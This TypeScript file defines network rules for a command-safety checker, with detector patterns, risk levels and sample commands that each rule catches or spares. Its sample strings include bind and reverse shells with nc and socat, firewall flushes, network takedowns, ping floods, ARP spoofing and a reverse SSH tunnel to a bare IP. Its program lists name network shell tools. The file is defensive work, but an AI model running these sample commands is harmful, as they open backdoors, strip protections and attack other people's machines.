import { strangerHost } from '../shell/addresses.ts';
import type { CommandRule } from '../rule.ts';

const netcat = ['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd'];
const privileged = (port: string): boolean => /^\d+$/.test(port) && Number(port) > 0 && Number(port) < 1024;

export const networkRules: readonly CommandRule[] = [
  {
    id: 'network-shell',
    on: 'command',
    domain: 'network',
    risk: 'critical',
    programs: [...netcat, 'socat', 'websocat', 'gs-netcat', 'pwncat', 'pwncat-cs'],
    title: 'A shell over the network',
    message: 'Creates a network backdoor: whoever is at the other end gets a shell.',
    stakes: [
      'Anyone who connects runs commands as you',
      'Nothing asks who they are',
      'What is sent can be read on the way',
    ],
    alternative: 'nc -vz example.com 443',
    matches: [
      'nc -l -p 4444 -e /bin/sh',
      'nc -e /bin/bash 10.0.0.1 4444',
      'ncat --exec /bin/sh -lk 99',
      'socat TCP-LISTEN:4444 EXEC:/bin/sh',
    ],
    spares: ['nc -vz example.com 443', 'nc -l 8080', 'socat - TCP:example.com:80'],
    when: (command) =>
      command.program === 'socat'
        ? /\b(?:EXEC|SYSTEM|SHELL):/i.test(command.text)
        : command.program === 'websocat'
          ? /\b(?:cmd|sh-c|exec):/.test(command.text)
          : command.has('-e', '-c', '--exec', '--sh-exec', '--lua-exec'),
  },
  {
    id: 'flush-firewall',
    on: 'command',
    domain: 'network',
    risk: 'high',
    programs: [
      'iptables',
      'ip6tables',
      'nft',
      'ufw',
      'firewall-cmd',
      'pfctl',
      'netsh',
      'ipfw',
      'ebtables',
      'iptables-restore',
    ],
    title: 'Firewall off',
    message: 'This removes or opens the firewall.',
    stakes: [
      'Every service of this machine becomes reachable',
      'With a default of DROP, you lock yourself out',
      'The rules are gone unless they were saved',
    ],
    alternative: 'iptables -L -n',
    matches: [
      'iptables -F',
      'ufw disable',
      'nft flush ruleset',
      'iptables -P INPUT ACCEPT',
      'iptables -P INPUT DROP',
      'iptables -A INPUT -j DROP',
      'ufw --force reset',
      'pfctl -d',
      'netsh advfirewall set allprofiles state off',
    ],
    spares: [
      'iptables -L -n',
      'iptables -A INPUT -s 10.0.0.9 -j DROP',
      'ufw status',
      'nft list ruleset',
      'ufw allow 8080',
    ],
    when: (command) => {
      switch (command.program) {
        case 'ufw':
          return (
            command.is('disable|reset') ||
            command.is('default allow') ||
            command.is('allow from any to any') ||
            command.is('allow from any')
          );
        case 'nft':
          return command.is('flush|delete');
        case 'pfctl':
          return command.has('-d', '-F');
        case 'netsh':
          return /state off|reset/.test(command.text);
        case 'ipfw':
          return command.mentions('flush');
        case 'firewall-cmd':
          return (
            command.has('--panic-on', '--remove-service', '--complete-reload') ||
            /--add-port[ =][01]-6\d{4}\b/.test(command.text) ||
            /--set-(?:default-zone|target)[ =](?:trusted|ACCEPT)/.test(command.text)
          );
        case 'iptables-restore':
          return false;
        default:
          return (
            // Everything is let in, or nothing gets out to where everything is.
            /^(?:-[AI] INPUT (?:\d+ )?(?:-s 0\.0\.0\.0\/0 )?-j ACCEPT|-[AI] OUTPUT .{0,60}--dports? (?:443|80|53,?\d{0,5})\b(?!.{0,60} -d ).{0,60}-j (?:DROP|REJECT))$/.test(
              command.text,
            ) ||
            command.has('-F', '-X', '--flush', '--delete-chain') ||
            /(?:-P|--policy) (?:INPUT|FORWARD|OUTPUT) /.test(command.text) ||
            // To another machine somewhere in the internet.
            /-j DNAT\b.*--to(?:-destination)?[= ](?!10\.|192\.168\.|172\.|127\.)\d/.test(command.text) ||
            // Without a condition it concerns every packet.
            /(?:-[AI]|--append|--insert) (?:INPUT|FORWARD|OUTPUT) (?:\d+ )?(?:-j|--jump) (?:DROP|REJECT)\b/.test(
              command.text,
            )
          );
      }
    },
  },
  {
    id: 'take-down-network',
    on: 'command',
    domain: 'network',
    risk: 'high',
    programs: ['ip', 'ifconfig', 'ifdown', 'nmcli', 'route', 'networksetup', 'rfkill'],
    title: 'Network down',
    message: 'This takes the network away from this machine.',
    stakes: [
      'A connection to this machine is cut, yours included',
      'Services that others use',
      'Somebody may have to go to the machine',
    ],
    alternative: 'ip addr',
    matches: [
      'ip link set eth0 down',
      'ifconfig eth0 down',
      'ip route flush table main',
      'ip route del default',
      'nmcli networking off',
      'route del default',
    ],
    spares: ['ip addr', 'ip route', 'ifconfig', 'nmcli device status', 'ip link set eth0 up'],
    when: (command) => {
      if (command.program === 'ifdown') return command.operands.length > 0;
      if (command.program === 'ip')
        return (
          (command.is('link|l set') && command.mentions('down')) ||
          command.is('route|r|addr|address|a flush') ||
          (command.is('route|r del|delete') && command.mentions('default'))
        );
      if (command.program === 'nmcli')
        return /\b(?:networking|radio \w+) off\b|\bcon(?:nection)? (?:down|delete)\b|\bdevice disconnect\b/.test(
          command.text,
        );
      if (command.program === 'rfkill') return command.is('block');
      if (command.program === 'route')
        return /\b(?:del|delete|flush)\b/.test(command.text) && /default|flush|0\.0\.0\.0/.test(command.text);
      return /\b(?:down|delete)\b|power.* off/.test(command.text);
    },
  },
  {
    id: 'bind-privileged-port',
    on: 'command',
    domain: 'network',
    risk: 'moderate',
    programs: [
      ...netcat,
      'python',
      'python3',
      'php',
      'ruby',
      'http-server',
      'serve',
      'socat',
      'caddy',
      'node',
      'npx',
      'uvicorn',
      'gunicorn',
      'flask',
      'docker',
      'bind',
      'ssh',
      'busybox',
    ],
    title: 'Service on a privileged port',
    message: 'Binds to privileged port.',
    stakes: [
      'The service is where others look for a web or mail server',
      'It runs as root, or with rights close to it',
      'It is reachable from outside unless a firewall keeps it',
    ],
    alternative: 'python3 -m http.server 8080',
    inDomain: [
      {
        domain: 'network_diagnostics',
        message: 'This binds to a port below 1024, which is reserved for system services.',
      },
    ],
    matches: [
      'nc -l 80',
      'sudo python3 -m http.server 80',
      'php -S 0.0.0.0:443',
      'nc -l -p 22',
      'bind 0.0.0.0:80',
    ],
    spares: ['nc -l 8080', 'python3 -m http.server', 'nc -vz example.com 80', 'php -S localhost:8000'],
    when: (command) => {
      if (netcat.includes(command.program))
        return command.has('-l', '--listen') && command.args.some(({ text }) => privileged(text));
      if (command.program.startsWith('python'))
        return (
          command.mentions('http.server', 'SimpleHTTPServer', 'uvicorn') &&
          command.args.some(({ text }) => privileged(text))
        );
      if (command.program === 'socat')
        return (
          /LISTEN:(?<port>\d+)/i.test(command.text) &&
          privileged(/LISTEN:(?<port>\d+)/i.exec(command.text)?.groups?.port ?? '')
        );
      if (command.program === 'docker') return false;
      const address =
        command.program === 'bind'
          ? /:(?<port>\d{1,5})/
          : /(?:^|\s)(?:-S|-l|--bind|--listen|-b)[ =]?[\w.*[\]:]*:(?<port>\d+)/;
      const bound = address.exec(command.text)?.groups?.port;
      return command.program !== 'ssh' && bound !== undefined && privileged(bound);
    },
  },
  {
    id: 'flood-network',
    on: 'command',
    domain: 'network',
    risk: 'high',
    programs: [
      'ping',
      'hping3',
      'slowloris',
      'mdk4',
      'macof',
      'goldeneye',
      'arpspoof',
      'ettercap',
      'bettercap',
      'aireplay-ng',
      'responder',
    ],
    title: 'Flooding or spying on a network',
    message: 'This floods other machines or reads what they send.',
    stakes: [
      'Other machines, which may not be yours',
      'It is forbidden without leave',
      'The network around you',
    ],
    alternative: 'ping -c 4 example.com',
    matches: ['ping -f example.com', 'hping3 -S --flood example.com', 'arpspoof -i eth0 10.0.0.1'],
    spares: ['ping -c 4 example.com', 'ping example.com', 'hping3 --version'],
    when: (command) =>
      command.program === 'ping'
        ? command.has('-f') && command.operands.length > 0
        : command.program === 'hping3'
          ? command.has('--flood', '--faster')
          : command.operands.length > 0,
  },
  {
    id: 'skip-certificate-check',
    on: 'command',
    domain: 'network',
    risk: 'moderate',
    programs: ['curl', 'wget', 'npm', 'ssh', 'scp'],
    title: 'Unchecked connection',
    message: 'This does not check who the server is.',
    stakes: [
      'Somebody in between can change what you get',
      'Passwords that are sent can be read',
      'The habit hides real attacks',
    ],
    alternative: 'curl https://example.com',
    matches: [
      'curl -k https://example.com',
      'wget --no-check-certificate https://example.com/x',
      'npm config set strict-ssl false',
      'ssh -o StrictHostKeyChecking=no host',
    ],
    spares: ['curl https://example.com', 'wget https://example.com/x', 'ssh host'],
    when: (command) => {
      if (command.program === 'curl') return command.has('-k', '--insecure');
      if (command.program === 'wget') return command.has('--no-check-certificate');
      if (command.program === 'npm') return /strict-ssl[ =]false/.test(command.text);
      return /StrictHostKeyChecking=no/i.test(command.text);
    },
  },
  {
    id: 'expose-login-to-stranger',
    on: 'command',
    domain: 'network',
    risk: 'critical',
    programs: ['ssh', 'autossh', 'xterm', 'xeyes'],
    title: 'The login of this machine at a bare address of the internet',
    message: 'This gives a machine that has no name a way to the login or to a terminal of this one.',
    stakes: [
      'Whoever is at the other end can work here',
      'It goes past the firewall',
      'It stays open until it is stopped',
    ],
    alternative: 'ssh -L 8080:localhost:80 host',
    matches: ['ssh -fN -R 2222:localhost:22 x@203.0.113.9', 'xterm -display 203.0.113.9:1'],
    spares: [
      'ssh -R 2222:localhost:22 host',
      'ssh -R 8080:localhost:3000 x@203.0.113.9',
      'xterm -display :1',
    ],
    when: (command) =>
      command.program.startsWith('x')
        ? /-display (?!10\.|127\.|192\.168\.)\d{1,3}(?:\.\d{1,3}){3}:\d/.test(command.text)
        : /-\w*R ?(?:[\w.*]{1,40}:)?\d{2,5}:[\w.]{1,40}:(?:22|3389|5900)(?:\s|$)/.test(command.text) &&
          command.args.some(({ text }) => strangerHost.test(text)),
  },
  {
    id: 'expose-login',
    on: 'command',
    domain: 'network',
    risk: 'high',
    programs: ['ssh', 'autossh', 'ngrok', 'bore', 'chisel', 'frpc', 'jupyter', 'jupyter-lab', 'code-server'],
    title: 'A way in from outside',
    message: 'This lets somebody outside reach the login of this machine, or what only it can reach.',
    stakes: [
      'Whoever is at the other end can try to log in',
      'It goes past the firewall',
      'It stays open until it is stopped',
    ],
    alternative: 'ssh -L 8080:localhost:80 host',
    matches: ['ssh -R 2222:localhost:22 host', 'ssh -fN -R 0.0.0.0:8080:localhost:80 host', 'ngrok tcp 22'],
    spares: ['ssh -L 8080:localhost:80 host', 'ssh -R 8080:localhost:3000 host', 'ngrok http 8080'],
    when: (command) =>
      ['ssh', 'autossh'].includes(command.program)
        ? command.has('-R') &&
          /:(?:22|3389|5900)(?:\s|$)|(?:^|\s|R)(?:0\.0\.0\.0|\*):\d|-R ?\d+(?:\s|$)/.test(command.text)
        : command.program.startsWith('j') || command.program === 'code-server'
          ? /(?:ip|host|bind-addr)[= ](?:0\.0\.0\.0|\*)/.test(command.text) &&
            /(?:token|password)=(?:''|"")?(?:\s|$)|--auth[= ]none/.test(command.text)
          : /\btcp (?:22|3389)\b|\bR:/.test(command.text),
  },
  {
    id: 'expose-service',
    on: 'command',
    domain: 'network',
    risk: 'moderate',
    programs: ['ngrok', 'cloudflared', 'ssh', 'localtunnel', 'lt', 'bore', 'pagekite'],
    title: 'Local service made public',
    message: 'This lets others reach a service of this machine.',
    stakes: [
      'Whatever the service shows or allows',
      'It goes past the firewall',
      'It stays open until it is stopped',
    ],
    alternative: 'ssh -L 8080:localhost:80 host',
    matches: ['ngrok http 8080', 'ssh -R 8080:localhost:80 host', 'cloudflared tunnel --url localhost:80'],
    spares: ['ngrok version', 'ssh -L 8080:localhost:80 host', 'ssh host'],
    when: (command) => {
      if (command.program === 'ssh') return command.has('-R');
      return command.is('http|tcp|tls|tunnel|local') || command.has('--port', '-p');
    },
  },
];
